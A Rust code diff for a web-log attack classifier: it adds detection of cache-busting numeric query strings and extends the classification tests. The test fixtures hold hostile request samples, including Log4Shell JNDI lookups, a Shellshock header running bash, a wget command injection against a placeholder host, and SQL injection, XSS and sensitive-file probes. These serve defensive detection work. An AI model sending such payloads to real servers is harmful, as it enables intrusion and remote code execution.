@@ -110,6 +110,7 @@ pub struct CompiledRules {
     not_static: u64,
     bad_protocol: u64,
     absolute_uri: u64,
+    numeric_query: u64,
     fields: [FieldMatchers; 4],
     static_exts: Vec<Box<[u8]>>,
     /// Distinct groupings and the rules that use each.
@@ -193,8 +194,9 @@ fn same_bytes(a: &[u8], b: &[u8]) -> bool {
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
 struct TargetVerdict {
     /// The filters the target leaves possible: all but those whose path, query or target
-    /// patterns it misses, the `not_static` ones when it is a static file and the
-    /// `absolute_uri` ones when it is not absolute. A line's candidates are ANDed with it.
+    /// patterns it misses, the `not_static` ones when it is a static file, the
+    /// `absolute_uri` ones when it is not absolute and the `numeric_query` ones when its
+    /// query is not a bare number. A line's candidates are ANDed with it.
     allowed: u64,
     /// `hash_value` of the path, the query (empty when absent) and the target.
     values: [u64; 3],
@@ -354,6 +356,7 @@ impl CompiledRules {
             not_static: 0,
             bad_protocol: 0,
             absolute_uri: 0,
+            numeric_query: 0,
             fields: Default::default(),
             static_exts: pattern_lines(STATIC_EXTENSIONS)
                 .into_iter()
@@ -426,6 +429,9 @@ impl CompiledRules {
                 }
                 if filter.absolute_uri {
                     c.absolute_uri |= fbit;
+                }
+                if filter.numeric_query {
+                    c.numeric_query |= fbit;
                 }
                 for field in Field::ALL {
                     let m = filter.field(field);
@@ -579,13 +585,7 @@ impl CompiledRules {
     /// inlined into the scan loop it made the loop keep more values on the stack.
     #[inline(never)]
     fn hash_field(&self, field: Field, rec: &Record<'_>) -> u64 {
-        let value = match field {
-            Field::Path => rec.path(),
-            Field::Query => rec.query(),
-            Field::Target => rec.target,
-            Field::UserAgent => rec.user_agent,
-        };
-        self.hash_value(value.unwrap_or(b""))
+        self.hash_value(field.distinct_value(rec).unwrap_or(b""))
     }
 
     /// These rules with `crawlers`' published ranges: a source inside them never feeds the
@@ -662,7 +662,12 @@ impl CompiledRules {
         match rec.target {
             Some(target)
                 if self.cache_target
-                    && cand & (target_need | self.not_static | self.absolute_uri) != 0 =>
+                    && cand
+                        & (target_need
+                            | self.not_static
+                            | self.absolute_uri
+                            | self.numeric_query)
+                        != 0 =>
             {
                 let v = scratch.targets.get(
                     target,
@@ -678,6 +683,9 @@ impl CompiledRules {
                 }
                 if cand & self.absolute_uri != 0 && !rec.target.is_some_and(is_absolute_uri) {
                     cand &= !self.absolute_uri;
+                }
+                if cand & self.numeric_query != 0 && !rec.query().is_some_and(is_numeric_query) {
+                    cand &= !self.numeric_query;
                 }
                 for field in [Field::Path, Field::Query, Field::Target] {
                     let fm = &self.fields[field.index()];
@@ -769,6 +777,9 @@ impl CompiledRules {
         }
         if !is_absolute_uri(target) {
             allowed &= !self.absolute_uri;
+        }
+        if !query.is_some_and(is_numeric_query) {
+            allowed &= !self.numeric_query;
         }
         TargetVerdict {
             allowed,
@@ -898,6 +909,12 @@ fn scan_escaped(
     0
 }
 
+/// A query of 7 to 12 ASCII digits and nothing else: what cache-busting DoS tools append
+/// (`/?183700723108`), shorter than a millisecond timestamp.
+fn is_numeric_query(query: &[u8]) -> bool {
+    (7..=12).contains(&query.len()) && query.iter().all(u8::is_ascii_digit)
+}
+
 fn is_absolute_uri(target: &[u8]) -> bool {
     let starts = |p: &[u8]| {
         target
@@ -1020,12 +1037,56 @@ mod tests {
             ),
             (
                 rec("POST", "/a?id=1+UNION+SELECT+1", 200, ua),
-                &["http-flood", "sqli-probing"],
+                &["exploit-slow", "http-flood", "sqli-probing"],
             ),
             (
                 rec("POST", "/a?q=%3CScript%3E", 200, ua),
-                &["http-flood", "xss-probing"],
+                &["exploit-slow", "http-flood", "xss-probing"],
             ),
+            // What a search box sends: an apostrophe and SQL words, no payload.
+            (
+                rec("POST", "/search?q=o%27brien+union+jack+select+all", 200, ua),
+                &["http-flood"],
+            ),
+            (
+                rec("POST", "/?x=${jndi:ldap://a/b}", 200, ua),
+                &["cve-probing", "exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/", 200, "${${lower:j}ndi:ldap://x/a}"),
+                &["cve-probing", "exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c id"),
+                &["exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/a?cmd=;wget+http://x/s", 200, ua),
+                &["exploit-slow", "http-flood"],
+            ),
+            (
+                rec("POST", "/_ignition/execute-solution", 404, ua),
+                &["cve-probing", "http-flood", "http-probing"],
+            ),
+            (
+                rec("POST", "/.mysql_history", 404, ua),
+                &["http-flood", "http-probing", "sensitive-files"],
+            ),
+            (
+                rec("POST", "/?author=2", 200, ua),
+                &["http-flood", "wordpress-user-enum"],
+            ),
+            (
+                rec("GET", "/?183700723108", 200, ua),
+                &["cache-bypass-flood", "http-crawl", "http-flood"],
+            ),
+            // A millisecond timestamp is not a cache buster.
+            (
+                rec("GET", "/?1548117000000", 200, ua),
+                &["http-crawl", "http-flood"],
+            ),
+            // Anchored: the dotfile itself, not a page named after it.
+            (rec("POST", "/.profile.html", 200, ua), &["http-flood"]),
             (
                 rec("POST", "/c99.php", 200, ua),
                 &["backdoor-probing", "http-flood"],
@@ -1289,8 +1350,9 @@ mod tests {
         set
     }
 
-    /// Pieces of targets: paths, patterns of the built-in rules, escapes and a query.
-    const TARGET_PIECES: [&str; 23] = [
+    /// Pieces of targets: paths, patterns of the built-in rules, escapes, queries, and
+    /// numbers that make a bare-number query or one too long to be.
+    const TARGET_PIECES: [&str; 25] = [
         "/",
         "/dump.sql",
         "/.git",
@@ -1314,6 +1376,8 @@ mod tests {
         "=1",
         "/ad?id=1",
         "/x?",
+        "?183700723108",
+        "1548117000000",
     ];
 
     #[test]
